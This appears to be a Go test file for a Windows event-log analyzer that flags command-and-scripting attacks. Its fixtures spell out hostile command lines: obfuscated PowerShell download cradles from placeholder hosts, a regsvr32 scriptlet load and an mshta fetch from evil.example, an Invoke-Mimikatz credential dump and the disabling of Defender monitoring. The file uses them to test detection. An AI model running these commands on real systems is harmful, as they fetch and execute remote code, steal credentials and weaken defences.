package analyzers

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"testing"
)

func gzipBase64(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func deflateBase64(s string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

const (
	wscript = `C:\Windows\System32\wscript.exe`
	cscript = `C:\Windows\System32\cscript.exe`
	mshta   = `C:\Windows\System32\mshta.exe`
)

func TestCarriersAndShapes(t *testing.T) {
	stager := "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"
	psh := `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('` +
		gzipBase64(stager) + `'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`
	service := func(name, image string) ev {
		return ev{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": name, "ImagePath": image}}
	}
	runTable(t, []tableCase{
		{"7045 gzip payload decoded", []ev{service("xQzT", psh)}, "T1059.003", "high", "Service installed to run a command shell: xQzT"},
		{"7045 getsystem pipe", []ev{service("abcd", `cmd.exe /c echo abcd > \\.\pipe\abcd`)}, "T1059.003", "high", "Service installed to write into a named pipe (getsystem): abcd"},
		{"7045 ordinary driver is quiet", []ev{service("vmci", `\SystemRoot\System32\drivers\vmci.sys`)}, "T1059.003", "", ""},
		{"wmi consumer runs powershell", []ev{{source: "evtx", provider: "Microsoft-Windows-WMI-Activity", eventID: 5861, data: map[string]any{
			"PossibleCause": `Binding EventFilter: instance of __EventFilter { Name = "f"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""; Name = "c"; };`}}},
			"T1059.001", "high", `WMI event consumer c runs powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://x/…`},
		{"wmi consumer runs vbscript", []ev{{source: "evtx", provider: "Microsoft-Windows-WMI-Activity", eventID: 5861, data: map[string]any{
			"PossibleCause": "Perm. Consumer: \ninstance of ActiveScriptEventConsumer\n{\n\tKillTimeout = 45;\n\tName = \"KillProcess\";\n\tScriptingEngine = \"VBScript\";\n\tScriptText = \"Dim o\\n\\tSet o = CreateObject(\\\"WbemScripting.SWbemLocator\\\")\";\n};\n"}}},
			"T1059.005", "high", "WMI event consumer KillProcess runs VBScript"},
		{"wmi 5861 without a command consumer is quiet", []ev{{source: "evtx", provider: "Microsoft-Windows-WMI-Activity", eventID: 5861, data: map[string]any{
			"PossibleCause": `Binding EventFilter: instance of __EventFilter { Name = "SCM Event Log Filter"; }; Perm. Consumer: instance of NTEventLogEventConsumer { Name = "SCM Event Log Consumer"; };`}}},
			"T1059", "!low", ""},
		{"xp_cmdshell enabled", []ev{{provider: "MSSQLSERVER", eventID: 15457, data: map[string]any{"Data[0]": "xp_cmdshell", "Data[1]": "0", "Data[2]": "1"}}},
			"T1059.003", "high", "SQL Server xp_cmdshell enabled"},
		{"xp_cmdshell turned off", []ev{{provider: "MSSQLSERVER", eventID: 15457, data: map[string]any{"Data[0]": "xp_cmdshell", "Data[1]": "1", "Data[2]": "0"}}},
			"T1059.003", "", ""},
		{"xp_cmdshell blocked", []ev{{provider: "MSSQL$SQLEXPRESS", eventID: 15281, data: map[string]any{"Data[0]": "sys.xp_cmdshell", "Data[1]": "xp_cmdshell"}}},
			"T1059.003", "medium", "SQL Server blocked a call to xp_cmdshell"},
		{"xp_cmdshell audited", []ev{{provider: "MSSQLSERVER", eventID: 33205, data: map[string]any{"Data[0]": "statement:EXEC master..xp_cmdshell 'whoami /all'"}}},
			"T1059.003", "high", "SQL Server ran xp_cmdshell: whoami /all"},
		{"other software's 15457 is not SQL Server", []ev{{provider: "Acme", eventID: 15457, data: map[string]any{"Data[0]": "xp_cmdshell", "Data[2]": "1"}}},
			"T1059.003", "", ""},
		{"execution policy bypass in the registry", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 13, process: ps, data: map[string]any{
			"TargetObject": `HKLM\SOFTWARE\Microsoft\PowerShell\1\ShellIds\Microsoft.PowerShell\ExecutionPolicy`, "Details": "Bypass"}}},
			"T1059.001", "medium", "PowerShell execution policy set to Bypass in the registry"},
		{"execution policy remote signed is quiet", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 13, process: ps, data: map[string]any{
			"TargetObject": `HKLM\SOFTWARE\Microsoft\PowerShell\1\ShellIds\Microsoft.PowerShell\ExecutionPolicy`, "Details": "RemoteSigned"}}},
			"T1059.001", "", ""},
		{"language mode lockdown changed", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 12, process: `C:\Windows\regedit.exe`, data: map[string]any{
			"TargetObject": `HKLM\System\CurrentControlSet\Control\Session Manager\Environment\__PSLockdownPolicy`, "Details": ""}}},
			"T1059.001", "medium", "PowerShell language mode changed in the registry (__PSLockdownPolicy)"},
		{"vbs in an alternate data stream", []ev{security4688(wscript, expl, `wscript.exe C:\Users\Public\notes.txt:x.vbs`)},
			"T1059.005", "high", "wscript.exe ran a script hidden in an alternate data stream"},
		{"encoded jscript", []ev{security4688(cscript, cmd, `cscript //e:JScript.Encode C:\Windows\Temp\log.txt`)},
			"T1059.007", "high", "cscript.exe ran an encoded JScript script (//E:JScript.Encode)"},
		{"vbs forced on a log file", []ev{security4688(cscript, cmd, `cscript /E:vbs C:\data\report.log`)},
			"T1059.005", "medium", "cscript.exe forced to run a file as VBScript (//E:)"},
		{"plain cscript vbs is low", []ev{security4688(cscript, cmd, `cscript //nologo C:\Windows\System32\slmgr.vbs /dli`)}, "T1059.005", "!medium", ""},
		{"mshta url without hta", []ev{security4688(mshta, expl, `mshta https://evil.example/p`)}, "T1059.007", "high", "mshta.exe ran inline or remote script"},
		{"mshta -Embedding", []ev{security4688(mshta, `C:\Windows\System32\svchost.exe`, `mshta.exe -Embedding C:\x.hta`)}, "T1059.007", "medium", "mshta.exe started through COM (-Embedding)"},
		{"rundll32 javascript", []ev{security4688(`C:\Windows\System32\rundll32.exe`, cmd, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`)},
			"T1059.007", "high", "rundll32.exe ran JScript given on its command line"},
		{"rundll32 dll export is quiet", []ev{security4688(`C:\Windows\System32\rundll32.exe`, expl, `rundll32.exe shell32.dll,Control_RunDLL`)}, "T1059.007", "", ""},
		{"squiblydoo", []ev{security4688(`C:\Windows\System32\regsvr32.exe`, cmd, `regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll`)},
			"T1059.007", "high", "regsvr32.exe loaded a scriptlet (.sct)"},
		{"regsvr32 of a dll is quiet", []ev{security4688(`C:\Windows\System32\regsvr32.exe`, expl, `regsvr32 /s C:\Program Files\App\x.dll`)}, "T1059.007", "", ""},
	})
}

func TestPowerShellCoverage(t *testing.T) {
	packed := "$d=[Convert]::FromBase64String('" + deflateBase64("Invoke-Mimikatz -DumpCreds; $x = 'padding text to make it long enough'") +
		"');IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream((New-Object IO.MemoryStream(,$d)),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
	runTable(t, []tableCase{
		{"script block unpacks deflate", []ev{block("p1", packed)}, "T1059.001", "high", "PowerShell script block unpacks a base64 payload: credential-theft"},
		{"script block with a base64 icon is quiet", []ev{block("p2", "$icon=[Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAAXNSR0IArs4c6QAAAARnQU1BAACxjwv8YQUAAAAJcEhZcwAADsMAAA7DAcdvqGQAAA')")},
			"T1059.001", "", ""},
		{"4103 rebuilt as a command", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4103, data: map[string]any{
			"Payload": "CommandInvocation(Set-MpPreference): \"Set-MpPreference\"\r\nParameterBinding(Set-MpPreference): name=\"DisableRealtimeMonitoring\"; value=\"True\"\r\n"}}},
			"T1059.001", "high", "PowerShell security-tool-tampering"},
		{"iex alone", []ev{security4688(ps, expl, `powershell -c "iex $code"`)}, "T1059.001", "medium", "PowerShell Invoke-Expression"},
		{"curl piped to iex", []ev{security4688(ps, expl, `powershell -c "curl http://10.0.0.5/a.ps1 | iex"`)}, "T1059.001", "high", "PowerShell download"},
		{"chocolatey installer is medium", []ev{security4688(ps, expl, `powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"`)},
			"T1059.001", "!high", ""},
		{"-version 2", []ev{security4688(ps, cmd, `powershell.exe -Version 2 -c "whoami"`)}, "T1059.001", "high", "PowerShell started with -Version 2"},
		{"-version 5 is quiet", []ev{security4688(ps, cmd, `powershell.exe -Version 5.1 -File C:\s\a.ps1`)}, "T1059.001", "", ""},
		{"server mode", []ev{security4688(ps, `C:\Windows\System32\OpenSSH\sshd.exe`, `powershell.exe -s -NoLogo -NoProfile`)}, "T1059.001", "medium", "PowerShell started in server mode (remoting)"},
		{"powershell from wsmprovhost", []ev{sysmon1(ps, `C:\Windows\System32\wsmprovhost.exe`, `powershell.exe`)}, "T1059.001", "medium", "PowerShell started by wsmprovhost.exe (remote shell host (WinRM))"},
		{"winrm shell", []ev{{provider: "Microsoft-Windows-WinRM", eventID: 169, data: map[string]any{"username": `CORP\adm`, "authenticationMechanism": "Kerberos"}}},
			"T1059.001", "low", `WinRM remote session: user CORP\adm authenticated by Kerberos`},
		{"csc from a non-build tool", []ev{security4688(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, `C:\Users\bob\Desktop\PSAttack.exe`,
			`csc.exe /noconfig /fullpaths @"C:\Users\bob\AppData\Local\Temp\x1y2z3.cmdline"`)}, "T1059.001", "medium", "C# compiled from a temporary .cmdline file by psattack.exe"},
		{"csc from powershell add-type is low", []ev{security4688(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, ps,
			`csc.exe /noconfig /fullpaths @"C:\Users\bob\AppData\Local\Temp\x1y2z3.cmdline"`)}, "T1059.001", "!medium", ""},
		{"engine start counts as a run", []ev{{provider: "PowerShell", eventID: 400, process: ps, ts: "2024-03-09T23:30:00Z",
			data: map[string]any{"EngineVersion": "5.1", "HostName": "ConsoleHost", "HostApplication": ps}}},
			"T1059", "low", "powershell.exe ran 1 time outside business hours on Saturday 2024-03-09 (23:30:00–23:30:00 UTC)"},
		{"script outside business hours", []ev{atTime(security4688(wscript, expl, `wscript.exe C:\Users\bob\run.vbs`), "2024-03-09T23:30:00Z")},
			"T1059", "low", "Scripts ran outside business hours on 2024-03-09: run.vbs"},
		{"script in business hours", []ev{security4688(wscript, expl, `wscript.exe C:\Users\bob\run.vbs`)}, "T1059", "!low", ""},
	})
}
